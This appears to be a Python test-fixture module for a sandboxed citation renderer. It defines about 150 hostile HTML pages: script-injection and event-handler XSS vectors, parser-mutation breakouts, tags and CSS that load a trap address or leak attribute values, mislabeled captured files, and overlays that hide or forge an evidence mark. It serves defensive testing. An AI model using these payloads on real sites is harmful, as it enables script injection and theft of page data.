"""The attacks: markup of a hostile page, one vector each.

``RUN`` stands for a script that reports to the trap (no quotes and no spaces, to fit everywhere), ``LOAD`` for an
address at the trap. ``fires`` says that the vector works in an unprotected page: the control proves it.
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True, slots=True)
class Attack:
    """One hostile page.

    Attributes:
        name: a word.
        body: what its body holds, besides the cited words.
        head: what its head holds.
        around: attributes of its body.
        click: it needs a click on the element with ``data-poke``.
        fires: whether an unprotected browser falls for it.
        files: what the capture holds of the web, by address: media type and content.
        title: the title of the citation.
    """

    name: str
    body: str = ""
    head: str = ""
    around: str = ""
    click: bool = False
    fires: bool = True
    files: dict[str, tuple[str, str]] = field(default_factory=dict)
    title: str = "A page"

    def markup(self, run: str, load: str) -> str:
        """The page, with the trap in it."""
        page = (
            f'<!doctype html><html lang="en"><head><meta charset="utf-8">{self.head}</head>'
            f'<body {self.around}><p id="told">Before it. {QUOTE} And after it.</p>{self.body}</body></html>'
        )
        root, _, name = load.rpartition("/")
        page = page.replace("RUN", run).replace("LOAD", load)
        return page.replace("ROOT", root).replace("NAME", name).replace("NETLOC", load.partition("//")[2])


QUOTE = "The rate was 5.33% in February."

SCRIPTS = (
    Attack("script", "<script>RUN</script>"),
    Attack("script-src", "<script src=LOAD></script>"),
    Attack("script-module", "<script type=module>RUN</script>"),
    Attack("script-in-head", head="<script>RUN</script>"),
    Attack("script-upper-case", "<ScRiPt/x>RUN</sCrIpT >"),
    Attack(
        "speculation-rules",
        '<script type=importmap>{"imports":{"a":"LOAD"}}</script><script type=module>import "a"</script>',
    ),
    Attack("img-onerror", "<img src=x onerror=RUN>"),
    Attack("img-slashes", "<img/src='x'/onerror=RUN>"),
    Attack("img-line-breaks", "<img\nsrc=x\nonerror\n=\nRUN>"),
    Attack("image-tag", "<image src=x onerror=RUN>"),
    Attack("svg-onload", "<svg onload=RUN></svg>"),
    Attack("svg-script", "<svg><script>RUN</script></svg>"),
    Attack("svg-script-href", "<svg><script href=LOAD></script></svg>"),
    Attack("svg-script-entities", "<svg><script>&#102;etch(`LOAD`)</script></svg>"),
    Attack("svg-begin", "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>"),
    Attack("svg-set-begin", "<svg><set onbegin=RUN attributeName=x dur=1s></svg>"),
    Attack("svg-foreign", "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>"),
    Attack("svg-image-onerror", "<svg><image href=x onerror=RUN></svg>"),
    Attack(
        "svg-use-data",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='RUN'/></svg>#x\"></svg>",
        fires=False,
    ),
    Attack("body-onload", around="onload=RUN"),
    Attack("body-onpageshow", around="onpageshow=RUN"),
    Attack("details-toggle", "<details open ontoggle=RUN><summary>x</summary></details>"),
    Attack("autofocus", "<input autofocus onfocus=RUN>", fires=False),
    Attack("video-source", "<video><source src=x onerror=RUN></video>"),
    Attack("audio-onerror", "<audio src=x onerror=RUN></audio>"),
    Attack("marquee", "<marquee onstart=RUN>x</marquee>", fires=False),
    Attack(
        "animation-start", "<style>@keyframes x{}</style><p style='animation:x 1s' onanimationstart=RUN>x</p>"
    ),
    Attack(
        "content-visibility",
        "<p style='content-visibility:auto' oncontentvisibilityautostatechange=RUN>x</p>",
    ),
    Attack(
        "popover",
        "<button popovertarget=x data-poke>go</button><p popover id=x onbeforetoggle=RUN>x</p>",
        click=True,
    ),
    Attack("frameset", "<iframe srcdoc='<frameset onload=RUN>'></iframe>"),
    Attack("srcdoc", "<iframe srcdoc='<script>RUN</script>'></iframe>"),
    Attack("frame-javascript", "<iframe src=javascript:RUN></iframe>"),
    Attack("frame-data", "<iframe src='data:text/html,<script>RUN</script>'></iframe>"),
    Attack("object-data", "<object data='data:text/html,<script>RUN</script>'></object>"),
    Attack("embed-data", "<embed src='data:text/html,<script>RUN</script>'>"),
    Attack("link-javascript", "<a href=javascript:RUN data-poke>go</a>", click=True),
    Attack("link-javascript-hidden", "<a href='\x01 java&#10;scr&Tab;ipt:RUN' data-poke>go</a>", click=True),
    Attack(
        "link-data", "<a href='data:text/html,<script>RUN</script>' data-poke>go</a>", click=True, fires=False
    ),
    Attack(
        "svg-link-javascript",
        "<svg width=90 height=40><a href=javascript:RUN><text y=20 data-poke>go</text></a></svg>",
        click=True,
    ),
    Attack(
        "svg-link-xlink",
        "<svg width=90 height=40><a xlink:href=javascript:RUN><text y=20 data-poke>go</text></a></svg>",
        click=True,
    ),
    Attack(
        "svg-animated-link",
        "<svg width=90 height=40><a><animate attributeName=href values=javascript:RUN /><text y=20 data-poke>go</text></a></svg>",
        click=True,
    ),
    Attack(
        "math-link",
        "<math href=javascript:RUN><mtext data-poke>going</mtext></math>",
        click=True,
        fires=False,
    ),
    Attack("form-javascript", "<form action=javascript:RUN><button data-poke>go</button></form>", click=True),
    Attack(
        "formaction-javascript",
        "<form><button formaction=javascript:RUN data-poke>go</button></form>",
        click=True,
    ),
    Attack("onclick", "<b onclick=RUN data-poke>go</b>", click=True),
    Attack(
        "meta-refresh-javascript",
        head="<meta http-equiv=refresh content='0;url=javascript:RUN'>",
        fires=False,
    ),
    Attack("shadow-root", "<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>"),
    Attack("template", "<template><img src=x onerror=RUN></template>", fires=False),
)

#: Markup that one parser reads as text and another as elements.
MUTATIONS = (
    Attack("style-breakout", "<style><a title='</style><img src=x onerror=RUN>'>"),
    Attack("title-breakout", "<title><a title='</title><img src=x onerror=RUN>'>"),
    Attack("textarea-breakout", "<textarea><a title='</textarea><img src=x onerror=RUN>'>"),
    Attack("xmp-breakout", "<xmp><a title='</xmp><img src=x onerror=RUN>'>"),
    Attack("iframe-breakout", "<iframe><a title='</iframe><img src=x onerror=RUN>'>"),
    Attack("noembed-breakout", "<noembed><a title='</noembed><img src=x onerror=RUN>'>"),
    Attack("noframes-breakout", "<noframes><a title='</noframes><img src=x onerror=RUN>'>"),
    Attack("noscript-breakout", "<noscript><p title='</noscript><img src=x onerror=RUN>'>"),
    Attack("comment-short", "<!--><img src=x onerror=RUN>-->"),
    Attack("comment-bang", "<!-- --!><img src=x onerror=RUN>-->"),
    Attack("comment-processing", "<?x ><img src=x onerror=RUN>?>"),
    Attack("cdata", "<![CDATA[><img src=x onerror=RUN>]]>"),
    Attack("svg-style", "<svg><style><img src=x onerror=RUN></style></svg>"),
    Attack("svg-style-attribute", "<svg></p><style><a id='</style><img src=1 onerror=RUN>'>", fires=False),
    Attack("svg-title", "<svg><title><img src=x onerror=RUN></title></svg>"),
    Attack("svg-desc", "<svg><desc><img src=x onerror=RUN></desc></svg>"),
    Attack(
        "math-annotation",
        "<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>",
    ),
    Attack(
        "math-mutation",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
        fires=False,
    ),
    Attack(
        "math-table",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=RUN&gt;'>",
        fires=False,
    ),
    Attack(
        "math-malignmark",
        "<math><mtext><mglyph><svg><mtext><style><path id='</style><img src=1 onerror=RUN>'>",
        fires=False,
    ),
    Attack(
        "nested-forms",
        "<form><div></form><form><svg><style><!--</style><img title='--><img src=1 onerror=RUN>'>",
        fires=False,
    ),
    Attack("select-breakout", "<select><option><style></select><img src=x onerror=RUN></style>", fires=False),
    Attack("plaintext", "<plaintext><img src=x onerror=RUN>", fires=False),
    Attack("attribute-entities", "<p title='&quot;&gt;&lt;img src=x onerror=RUN&gt;'>x</p>", fires=False),
    Attack("text-entities", "<p>&lt;img src=x onerror=RUN&gt; &amp;lt;script&amp;gt;</p>", fires=False),
    Attack("backtick", "<img alt='`' onerror=RUN src='`'>"),
    Attack("nul-bytes", "<scr\x00ipt>RUN</scr\x00ipt><img src=x one\x00rror=RUN>", fires=False),
    Attack("utf-7", "+ADw-script+AD4-RUN+ADw-/script+AD4-", head="<meta charset=utf-7>", fires=False),
    Attack(
        "iso-2022-jp",
        "<img alt='\x1b$B'><img alt='\x1b(B src=x onerror=RUN //'>",
        head="<meta http-equiv=content-type content='text/html; charset=iso-2022-jp'>",
        fires=False,
    ),
    Attack("byte-order-mark", "\ufeff<p>\ufffe\uffff</p>\ufeff", fires=False),
    Attack("attribute-names", "<p <script>RUN</script> =x'\"><img src=x onerror=RUN>x</p>"),
    Attack(
        "own-element", "<x-a onclick=RUN data-poke>go</x-a><font-face><img src=x onerror=RUN>", click=True
    ),
    Attack("hostile-title", title="</title><script>RUN</script><img src=x onerror=RUN>", fires=False),
    Attack(
        "clobbering",
        "<form id=document><input name=body><input name=cookie></form><img name=getElementById><a id=verifaible-evidence class=verifaible-evidence>false</a>",
        fires=False,
    ),
)

REQUESTS = (
    Attack("img", "<img src=LOAD>"),
    Attack("img-srcset", "<img srcset='LOAD 1x, LOAD 2x'>"),
    Attack("picture", "<picture><source srcset=LOAD><img></picture>"),
    Attack("img-protocol-relative", "<img src='//NETLOC'>"),
    Attack("img-dangling", "<img src='LOAD?secret=<b>token</b>'>"),
    Attack("base", "<img src=NAME>", head="<base href='ROOT/'>"),
    Attack("input-image", "<input type=image src=LOAD>"),
    Attack("body-background", around="background=LOAD"),
    Attack("table-background", "<table background=LOAD><td background=LOAD>x</table>"),
    Attack("video-poster", "<video poster=LOAD></video>"),
    Attack("video-autoplay", "<video autoplay muted src=LOAD></video>"),
    Attack("audio-autoplay", "<audio autoplay src=LOAD></audio>"),
    Attack("track", "<video src=x><track default src=LOAD></video>", fires=False),
    Attack("iframe", "<iframe src=LOAD></iframe>"),
    Attack("object", "<object data=LOAD></object>"),
    Attack("embed", "<embed src=LOAD>"),
    Attack("svg-image", "<svg><image href=LOAD></svg>"),
    Attack(
        "svg-fe-image",
        "<svg width=90 height=90><filter id=f><feImage href=LOAD /></filter><rect width=9 height=9 filter=url(#f)></svg>",
    ),
    Attack("svg-use", "<svg><use href=LOAD#x></svg>", fires=False),
    Attack(
        "svg-fill",
        "<svg width=9 height=9><rect width=9 height=9 fill='url(LOAD#x)' mask='url(LOAD#y)' /></svg>",
    ),
    Attack("stylesheet", head="<link rel=stylesheet href=LOAD>"),
    Attack("preload", head="<link rel=preload as=image href=LOAD>"),
    Attack("prefetch", head="<link rel=prefetch href=LOAD>"),
    Attack("modulepreload", head="<link rel=modulepreload href=LOAD>"),
    Attack(
        "preconnect", head="<link rel=preconnect href=LOAD><link rel=dns-prefetch href=LOAD>", fires=False
    ),
    Attack("manifest", head="<link rel=manifest href=LOAD><link rel=icon href=LOAD>", fires=False),
    Attack("html-import", head="<link rel=import href=LOAD>", fires=False),
    Attack("meta-refresh", head="<meta http-equiv=refresh content='0;url=LOAD'>"),
    Attack("meta-refresh-body", "<meta http-equiv=refresh content='0;url=LOAD'>"),
    Attack("meta-link", head="<meta http-equiv=Link content='<LOAD>;rel=stylesheet'>", fires=False),
    Attack("css-import", head="<style>@import 'LOAD';</style>"),
    Attack("css-import-escaped", head="<style>@\\69mport u\\72l(LOAD);</style>"),
    Attack("css-background", head="<style>body{background:url(LOAD)}</style>"),
    Attack("css-url-escaped", head="<style>body{background:\\75\\72\\6c(LOAD)}</style>"),
    Attack(
        "css-url-comment", head="<style>body{background:url(/**/LOAD)}p{background:url( 'LOAD' )}</style>"
    ),
    Attack("css-image-set", head="<style>body{background:image-set('LOAD' 1x)}</style>"),
    Attack(
        "css-cursor",
        head="<style>body{list-style-image:url(LOAD);cursor:url(LOAD),auto}li{display:list-item}</style>",
        body="<ul><li>x</ul>",
    ),
    Attack("css-content", head="<style>p::before{content:url(LOAD)}</style>"),
    Attack("css-font", head="<style>@font-face{font-family:z;src:url(LOAD)}body{font-family:z}</style>"),
    Attack("css-variable", head="<style>:root{--x:url(LOAD)}p{background:var(--x)}</style>"),
    Attack("css-filter", head="<style>p{filter:url(LOAD#f);mask:url(LOAD#m)}</style>"),
    Attack(
        "css-attribute-leak",
        "<input value=s3cret><p data-x=s3cret>x</p>",
        head="<style>[value^=s]{background:url(LOAD)}[data-x^=s]{background:url(LOAD)}</style>",
    ),
    Attack(
        "css-expression",
        head="<style>p{width:expression(RUN);behavior:url(LOAD);-moz-binding:url(LOAD#x)}</style>",
        fires=False,
    ),
    Attack(
        "css-breakout",
        head="<style>p{content:'\\3c/style\\3e\\3cimg src=x onerror=RUN\\3e'}</style>",
        fires=False,
    ),
    Attack("style-attribute", "<p style='background:url(LOAD)'>x</p>"),
    Attack("style-attribute-entities", "<p style='background:&#117;rl(&quot;LOAD&quot;)'>x</p>"),
    Attack("ping", "<a href=#told ping=LOAD data-poke>go</a>", click=True),
    Attack("link-top", "<a href=LOAD target=_top data-poke>go</a>", click=True),
    Attack("link-self", "<a href=LOAD data-poke>go</a>", click=True),
    Attack("link-blank", "<a href=LOAD target=_blank data-poke>go</a>", click=True),
    Attack("link-base-target", "<a href=LOAD data-poke>go</a>", head="<base target=_top>", click=True),
    Attack(
        "map-area",
        "<img usemap=#m width=50 height=50 data-poke><map name=m><area shape=default href=LOAD></map>",
        click=True,
    ),
    Attack("form-get", "<form action=LOAD target=_top><button data-poke>go</button></form>", click=True),
    Attack(
        "form-post",
        "<form action=LOAD method=post><input name=a value=b><input type=submit data-poke></form>",
        click=True,
    ),
    Attack(
        "form-elsewhere",
        "<form id=f action=LOAD></form><button form=f formtarget=_blank data-poke>go</button>",
        click=True,
    ),
    Attack("math-background", "<math><mi style='background:url(LOAD)'>x</mi></math>"),
)

#: What the capture itself holds is of another kind than its server said.
CAPTURED = (
    Attack(
        "held-html-as-css",
        head="<link rel=stylesheet href=/held>",
        files={"/held": ("text/html", "</style><script>RUN</script><img src=x onerror=RUN>")},
        fires=False,
    ),
    Attack(
        "held-css-imports",
        head="<link rel=stylesheet href=/held>",
        files={
            "/held": ("text/css", "@import '/more';@import 'LOAD';"),
            "/more": ("text/css", "@import '/held';p{background:url(LOAD)}"),
        },
        fires=False,
    ),
    Attack(
        "held-html-as-image",
        "<img src=/held>",
        files={"/held": ("text/html", "<script>RUN</script>")},
        fires=False,
    ),
    Attack(
        "held-svg",
        "<img src=/held>",
        files={
            "/held": (
                "image/svg+xml",
                "<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><script>RUN</script><image href='LOAD'/></svg>",
            )
        },
        fires=False,
    ),
    Attack(
        "held-polyglot",
        "<img src=/held><script src=/held></script>",
        files={"/held": ("application/javascript", "GIF89a=1;RUN")},
        fires=False,
    ),
    Attack(
        "held-script", "<script src=/held></script>", files={"/held": ("text/javascript", "RUN")}, fires=False
    ),
    Attack(
        "held-frame",
        "<iframe src=/held></iframe>",
        files={"/held": ("text/html", "<script>RUN</script>")},
        fires=False,
    ),
    Attack("held-redirect", "<img src=/held>", files={"/held": ("redirect", "LOAD")}, fires=False),
)

OVERLAYS = (
    Attack(
        "overlay",
        "<div style='position:fixed;inset:-9999px;z-index:2147483647;background:red' data-poke>x</div>",
        fires=False,
    ),
    Attack(
        "overlay-top-layer",
        "<dialog open style='position:fixed;inset:0;width:100vw;height:100vh'>Log in</dialog><div popover=manual>x</div>",
        fires=False,
    ),
    Attack(
        "hides-the-mark",
        head="<style>mark,.verifaible-evidence,#verifaible-evidence{display:none!important;opacity:0!important}</style>",
        fires=False,
    ),
    Attack(
        "false-mark",
        "<mark id=verifaible-evidence class=verifaible-evidence>The rate was 9.99%.</mark>",
        fires=False,
    ),
    Attack("deep", "<div>" * 3000 + "x", fires=False),
)

KINDS = (SCRIPTS, MUTATIONS, REQUESTS, CAPTURED, OVERLAYS)
ATTACKS = tuple(attack for kind in KINDS for attack in kind)
